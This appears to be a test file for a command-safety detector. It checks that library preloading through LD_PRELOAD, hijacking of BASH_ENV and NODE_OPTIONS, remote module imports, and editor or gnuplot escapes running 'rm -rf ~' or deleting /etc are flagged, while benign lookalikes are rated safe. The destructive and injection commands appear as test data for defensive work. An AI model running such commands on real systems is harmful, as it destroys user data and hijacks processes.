import { beforeAll, describe, it } from "vitest";
import { initializeDetector } from "../../src/detection/index.js";
import { expectAll } from "./verdicts.js";

// Programs made to load or run code they were handed: through the environment, an editor's
// embedded interpreters, or a plotting tool's shell escape. Every command is only parsed.
describe("code loaded through the environment and embedded interpreters", () => {
  beforeAll(async () => {
    await initializeDetector();
  });

  it("holds hook variables set from run-time data by read, mapfile, printf -v and getopts", () => {
    expectAll(
      [
        "read -r BASH_ENV < /tmp/name; export BASH_ENV",
        "read BASH_ENV <<< /tmp/x.sh",
        "IFS= read -r -d '' ENV < f",
        "read -p 'file: ' -r LD_PRELOAD",
        "read -a LD_PRELOAD < list",
        "read -ra LD_AUDIT <<< ./a.so",
        "mapfile -t PROMPT_COMMAND < cmds",
        "printf -v BASH_ENV '%s' \"$f\"",
        "printf -vPS1 '%s' \"$p\"",
        "getopts ab: PROMPT_COMMAND",
        "read -r x BASH_ENV rest < f",
        "read -r NODE_OPTIONS < opts",
      ],
      "flagged",
    );
    expectAll(
      [
        "read -r line < file.txt",
        'while IFS= read -r f; do echo "$f"; done < list',
        "read -p 'continue? ' answer",
        "mapfile -t lines < notes.txt",
        "printf -v padded '%05d' 42",
        "getopts 'ab:' opt",
        "read -r -a parts <<< 'a b c'",
      ],
      "safe",
    );
  });

  it("holds preload and audit libraries outside the system's library directories", () => {
    expectAll(
      [
        "LD_PRELOAD=/tmp/evil.so ls",
        "LD_PRELOAD=./hook.so:/usr/lib/libc.so.6 id",
        "export LD_PRELOAD=/dev/shm/x.so; ls",
        "env LD_AUDIT=./a.so ls",
        "sudo LD_PRELOAD=/tmp/x.so passwd",
        "DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls",
        "GCONV_PATH=. iconv -f x -t y a",
        "LD_PRELOAD=$LIB ls",
        "LD_PRELOAD=/usr/lib/../../tmp/x.so ls",
        "NODE_OPTIONS='--require /tmp/hook.js' npm test",
        "NODE_OPTIONS=--import=https://x.example/h.mjs node a.js",
        'export NODE_OPTIONS="-r $HOOK"',
      ],
      "flagged",
    );
    expectAll(
      [
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server",
        "LD_PRELOAD= ls",
        "NODE_OPTIONS='--require ./tracing.js' node app.js",
        "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
        "LD_LIBRARY_PATH=./build/lib ./app",
      ],
      "safe",
    );
  });

  it("reads the code an editor's embedded interpreter runs", () => {
    expectAll(
      [
        "nvim --headless -c 'lua os.execute(\"rm -rf ~\")' -c q",
        "vim -c 'py3 import os; os.system(\"rm -rf ~\")' -c q",
        "vim -c ':silent python3 import shutil; shutil.rmtree(\"/etc\")' -c q",
        "vim --cmd 'perl system(\"rm -rf ~\")'",
        "vim -c 'ruby system(\"rm -rf /\")'",
      ],
      "hardline",
    );
    expectAll(["vim -c 'lua print(1)' -c q", "nvim -c 'py3 print(42)' -c q"], "safe");
  });

  it("reads gnuplot's shell escapes", () => {
    expectAll(
      ["gnuplot -e 'system(\"rm -rf ~\")'", "gnuplot -e 'x = system(\"rm -rf /etc\")'"],
      "hardline",
    );
    expectAll(["gnuplot -e '!rm -rf $DIR'", "gnuplot -e 'system(cmd)'"], "flagged");
    expectAll(["gnuplot -e 'plot sin(x)'", "gnuplot -e 'set term png' plot.gp"], "safe");
  });
});
